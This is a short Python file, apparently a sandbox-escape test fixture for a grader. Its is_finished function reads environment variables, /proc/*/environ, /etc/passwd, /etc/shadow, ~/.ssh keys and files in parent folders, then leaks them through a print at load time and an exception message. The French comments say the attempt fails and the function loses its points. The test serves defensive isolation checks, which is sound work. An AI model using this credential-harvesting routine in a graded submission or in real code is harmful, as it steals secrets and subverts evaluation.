# description : is_finished lit tout ce qui pourrait être secret (variables d'environnement, /proc/*/environ, /etc/passwd, /etc/shadow, ~/.ssh, les fichiers voisins de sa copie et des dossiers parents) et le renvoie dans le message d'une exception, pour le retrouver dans son retour ; au chargement, elle l'affiche aussi. is_finished lève une exception : elle perd ses points, et rien de secret n'est visible dans le bac à sable.
# perd : is_finished
import glob
import os


def _butin():
    morceaux = [repr(dict(os.environ))]
    chemins = ["/etc/passwd", "/etc/shadow", "/etc/hostname"]
    chemins += glob.glob("/proc/*/environ") + glob.glob(os.path.expanduser("~/.ssh/*"))
    dossier = os.path.dirname(os.path.abspath(__file__))
    while dossier not in ("", "/"):
        chemins += glob.glob(os.path.join(dossier, "*"))
        dossier = os.path.dirname(dossier)
    for chemin in chemins:
        try:
            with open(chemin, "rb") as fichier:
                morceaux.append(f"{chemin}: {fichier.read(300)!r}")
        except OSError:
            pass
    return " | ".join(morceaux)


print(_butin())


def is_finished(mines, opened):
    raise ValueError(_butin())
